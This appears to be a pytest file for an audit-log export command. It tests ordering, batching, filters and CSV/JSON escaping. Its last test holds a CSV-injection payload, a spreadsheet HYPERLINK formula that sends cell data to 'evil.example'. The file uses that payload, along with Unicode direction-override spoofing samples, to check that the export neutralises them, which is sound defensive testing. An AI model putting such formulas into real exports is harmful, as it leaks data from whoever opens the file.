"""`odock-sync audit export`: every matching event once, oldest first, JSON lines or CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest

from models.actor import Actor
from models.audit import record
from models.enums import Source
from tests.support import factories as f

T0 = datetime(2026, 10, 1, tzinfo=UTC)


def _arrange(session, count: int) -> list[str]:
    org, other = f.make_org(session, "Acme"), f.make_org(session, "Globex")
    org.slug = "acme"
    ids = []
    for n in range(count):
        event = record(
            session,
            actor=Actor(Source.LDAP if n % 2 else Source.SCIM, f"job {n}"),
            organisation_id=org.id,
            action="user.updated",
            target_type="user",
            target_id=f"u{n}",
            before={"name": f'old, "{n}"'},
            after={"name": f"new\n{n}"},
        )
        event.occurred_at = T0 + timedelta(seconds=n // 7)  # runs of equal times
        ids.append(event)
    stray = record(
        session,
        actor=Actor(Source.ADMIN, "x"),
        organisation_id=other.id,
        action="user.updated",
        target_type="user",
        target_id="elsewhere",
    )
    stray.occurred_at = T0 + timedelta(seconds=5)
    session.commit()
    ordered = sorted(ids, key=lambda e: (e.occurred_at, e.id))
    return [str(e.id) for e in ordered]


def test_jsonl_export_walks_batches_in_order_without_gaps(run, session) -> None:
    expected = _arrange(session, 250)
    output = run(
        "audit",
        "export",
        "--since",
        "2026-10-01T00:00:00Z",
        "--org",
        "acme",
        "--until",
        "2026-11-01",
        "--batch-size",
        "100",
    ).output
    lines = [json.loads(line) for line in output.splitlines()]
    assert [line["id"] for line in lines] == expected
    first = next(line for line in lines if line["target_id"] == "u1")
    assert first["source"] == "ldap" and first["actor"] == "job 1"
    assert first["after"] == {"name": "new\n1"}
    assert set(lines[0]) >= {"actor", "action", "source", "before", "after", "request_id"}


def test_csv_export_keeps_before_and_after_as_json_cells(run, session) -> None:
    _arrange(session, 20)
    output = run(
        "audit",
        "export",
        "--since",
        "2026-10-01T00:00:01Z",
        "--until",
        "2026-10-01T00:00:02Z",
        "--format",
        "csv",
        "--source",
        "scim",
    ).output
    rows = list(csv.DictReader(io.StringIO(output)))
    assert sorted(row["target_id"] for row in rows) == ["u10", "u12", "u8"]
    eight = next(row for row in rows if row["target_id"] == "u8")
    assert json.loads(eight["before"]) == {"name": 'old, "8"'}
    assert json.loads(eight["after"]) == {"name": "new\n8"}
    assert eight["request_id"] == ""


def test_bad_times_and_unknown_organisations_are_one_line_errors(run) -> None:
    bad = run("audit", "export", "--since", "last tuesday", ok=False)
    assert "--since" in bad.output
    unknown = run("audit", "export", "--since", "7d", "--org", "nope", ok=False)
    assert "no organisation" in unknown.output.lower()


def test_csv_cells_show_invisible_characters_as_markers_and_json_lines_escape_them(
    run, session
) -> None:
    org = f.make_org(session, "Initech")
    org.slug = "initech"
    event = record(
        session,
        actor=Actor(Source.SCIM, "okta \u202enimda"),
        organisation_id=org.id,
        action="user.updated",
        target_type="user",
        target_id="u\u200b1",
        after={"name": "\u202eecila"},
    )
    event.occurred_at = T0
    session.commit()
    window = ("--since", "2026-09-30T00:00:00Z", "--until", "2026-10-02", "--org", "initech")
    (row,) = csv.DictReader(io.StringIO(run("audit", "export", *window, "--format", "csv").output))
    assert row["actor"] == "okta <U+202E>nimda" and row["target_id"] == "u<U+200B>1"
    assert row["after"] == '{"name":"\\u202eecila"}'
    line = run("audit", "export", *window).output
    assert "\u202e" not in line and "\u200b" not in line
    assert json.loads(line)["actor"] == "okta \u202enimda"  # the data, escaped


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(
    run, session, start
) -> None:
    """OWASP's CSV injection: a name an identity provider sent, opened in the auditor's Excel."""
    org = f.make_org(session, "Initech")
    org.slug = "initech"
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    event = record(
        session,
        actor=Actor(Source.SCIM, "okta"),
        organisation_id=org.id,
        action="user.updated",
        target_type="user",
        target_id=formula,
        after={"name": formula},
    )
    event.occurred_at = T0
    session.commit()
    window = ("--since", "2026-09-30T00:00:00Z", "--until", "2026-10-02", "--org", "initech")
    (row,) = csv.DictReader(io.StringIO(run("audit", "export", *window, "--format", "csv").output))
    # A tab or carriage return is a control character, shown as its marker: no formula either.
    shown = "'" + formula if start in "=+-@" else f"<U+{ord(start):04X}>{formula[1:]}"
    assert row["target_id"] == shown
    assert row["after"].startswith("{")  # JSON cells start with a brace: never a formula
    assert row["actor"] == "okta"
